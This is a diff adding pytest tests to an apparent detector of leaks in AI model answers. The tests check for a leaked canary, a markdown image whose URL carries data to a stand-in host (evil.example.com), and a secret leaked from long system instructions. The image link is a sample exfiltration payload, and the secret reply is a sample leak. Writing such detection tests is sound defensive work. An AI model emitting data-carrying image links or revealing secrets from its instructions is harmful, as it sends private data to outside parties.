@@ -114,3 +114,20 @@ def test_canary_is_found_between_any_texts(before, after):
     answer = f"{before}{CANARY}{after}"
 
     assert "CanaryLeaked" in reasons(answer, canary=CANARY)
+
+
+@pytest.mark.parametrize("before", range(answers.WINDOW - 70, answers.WINDOW + 5, 7))
+def test_what_stands_across_two_windows_is_found_once(before):
+    image = "![x](https://evil.example.com/?q=0123456789)"
+
+    found = [
+        each for each in answers.findings("a" * before + image) if each.reason == "ImageCarriesData"
+    ]
+
+    assert [(each.start, each.end) for each in found] == [(before, before + len(image) - 1)]
+
+
+def test_secret_far_behind_in_long_instructions_is_found():
+    instructions = "Be kind. " * 2000 + INSTRUCTIONS
+
+    assert reasons("It is Zimtstern77, dear.", instructions=instructions) == ["SecretLeaked"]
